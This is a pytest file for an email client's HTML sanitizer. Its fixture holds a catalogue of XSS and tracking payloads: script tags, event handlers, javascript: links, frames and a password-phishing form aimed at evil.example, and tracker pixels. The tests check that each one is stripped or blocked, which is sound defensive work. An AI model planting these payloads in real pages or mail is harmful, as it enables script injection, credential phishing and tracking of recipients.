"""Hostile HTML: nothing executes, nothing is fetched, links only to safe places."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inbox_app.core.html import has_blocked_images, html_to_text, sanitize_html, unblock_images

HOSTILE = """
<html><head><style>body{background:url(https://tracker.example/bg.png)}</style>
<script>alert('head')</script><meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel="stylesheet" href="https://evil.example/x.css"></head>
<body onload="steal()">
<p style="background-image:url('https://tracker.example/p.gif')">Hello <b>there</b></p>
<img src="https://tracker.example/pixel.gif" width="1" height="1" onerror="alert(1)">
<img src="//tracker.example/proto-relative.gif">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline ok">
<a href="javascript:alert(document.cookie)">click</a>
<a href="JaVaScRiPt:alert(1)">click2</a>
<a href="vbscript:msgbox(1)">vb</a>
<a href="data:text/html,<script>alert(1)</script>">data link</a>
<a href="https://shop.example/order/1041" target="_blank">your order</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<form action="https://evil.example/phish"><input name="password" type="password">
<button formaction="https://evil.example">Log in</button></form>
<svg><script>alert(2)</script></svg>
<math><mi xlink:href="javascript:alert(3)">x</mi></math>
<div onclick="x()" onmouseover="y()">hover</div>
<base href="https://evil.example/">
<template><img src=x onerror=alert(4)></template>
</body></html>
"""


@pytest.fixture
def cleaned():
    return sanitize_html(HOSTILE)


def test_no_script_or_event_handler_survives(cleaned):
    lowered = cleaned.lower()
    assert "<script" not in lowered and "alert(" not in lowered
    assert not re.search(r"\son\w+\s*=", lowered)


def test_no_frames_forms_objects_styles_or_base(cleaned):
    lowered = cleaned.lower()
    for tag in ("<iframe", "<object", "<embed", "<form", "<input", "<button", "<style", "<link",
                "<meta", "<base", "<svg", "<math", "<template"):
        assert tag not in lowered, tag
    assert "style=" not in lowered and "url(" not in lowered


def test_dangerous_links_lose_their_target_and_safe_ones_stay(cleaned):
    hrefs = re.findall(r'href="([^"]*)"', cleaned)
    assert hrefs == ["https://shop.example/order/1041"]
    assert 'rel="noopener noreferrer nofollow"' in cleaned


def test_remote_images_are_defused_not_fetched_until_asked(cleaned):
    sources = re.findall(r'src="([^"]*)"', cleaned)
    assert all(s.startswith(("blocked:", "data:image/png")) for s in sources), sources
    assert "blocked:https://tracker.example/pixel.gif" in sources
    assert not any(s.startswith("data:image/svg") for s in sources)
    assert has_blocked_images(cleaned)
    restored = unblock_images(cleaned)
    assert 'src="https://tracker.example/pixel.gif"' in restored


def test_text_survives_the_cleaning(cleaned):
    text = html_to_text(cleaned)
    assert "Hello there" in text and "your order" in text and "steal" not in text


def test_plain_text_from_html_keeps_paragraphs_and_drops_scripts():
    text = html_to_text("<p>One</p><p>Two<br>Three</p><script>bad()</script><style>x{}</style>")
    assert text == "One\n\nTwo\nThree"


def test_empty_or_nothing_left_is_none():
    assert sanitize_html("") is None
    assert sanitize_html("<script>only()</script>") is None


def test_tables_nested_past_eight_are_flattened_their_words_kept():
    from inbox_app.core.html import MAX_TABLE_DEPTH, tame_layout

    deep = sanitize_html("<table><tr><td>" * 40 + "Order &amp; invoice"
                         + "</td><td>paid</td></tr></table>" * 40)
    tamed = tame_layout(deep)
    assert tamed.count("<table") == tamed.count("</table>") == MAX_TABLE_DEPTH
    assert "Order &amp; invoice" in tamed and tamed.count("paid") == 40
    assert re.sub(r"\s", "", html_to_text(tamed)) == re.sub(r"\s", "", html_to_text(deep))


def test_spans_are_clamped_and_a_huge_table_is_left_to_its_text():
    from inbox_app.core.html import MAX_CELLS, MAX_SPAN, tame_layout

    spanned = sanitize_html('<table><tr><td colspan="100000" rowspan="x">a</td></tr></table>')
    assert f'colspan="{MAX_SPAN}"' in tame_layout(spanned) and 'rowspan="1"' in tame_layout(spanned)
    cells = int(MAX_CELLS ** 0.5) + 1
    grid = sanitize_html("<table>" + ("<tr>" + "<td>c</td>" * cells + "</tr>") * cells
                         + "</table>")
    assert tame_layout(grid) is None


def test_ordinary_html_is_left_exactly_as_it_is():
    from inbox_app.core.html import tame_layout

    ordinary = sanitize_html(HOSTILE)
    assert tame_layout(ordinary) is ordinary
    table = sanitize_html("<table><tr><td>a</td><td>b</td></tr></table>" * 3)
    assert tame_layout(table) is table


@given(st.lists(st.sampled_from(["<table><tr><td>", "</td></tr></table>", "<div>", "</div>",
                                 "<td colspan=9>", "word ", "&amp; ", "<br>", "<b>", "</b>"]),
                max_size=200))
@settings(max_examples=200, deadline=None)
def test_taming_keeps_every_word_of_any_tag_soup(parts):
    from inbox_app.core.html import MAX_TABLE_DEPTH, tame_layout

    html = sanitize_html("<table><tr><td>" * 10 + "".join(parts) + "start")
    if html is None:
        return
    tamed = tame_layout(html)
    if tamed is None:
        return
    assert re.sub(r"\s", "", html_to_text(tamed)) == re.sub(r"\s", "", html_to_text(html))
    depth = deepest = 0
    for tag in re.findall(r"</?table", tamed):
        depth += 1 if tag == "<table" else -1
        deepest = max(deepest, depth)
    assert deepest <= MAX_TABLE_DEPTH


def test_a_pages_title_is_not_shown_as_the_mails_first_line():
    """An HTML mail's <title> names the file for a browser's tab; in the thread it read as
    the first words of the message ("Newsletter" above "Hello")."""
    page = ("<html><head><title>Newsletter</title><meta charset=utf-8></head>"
            "<body><p>Hello</p></body></html>")
    assert sanitize_html(page) == "<p>Hello</p>"
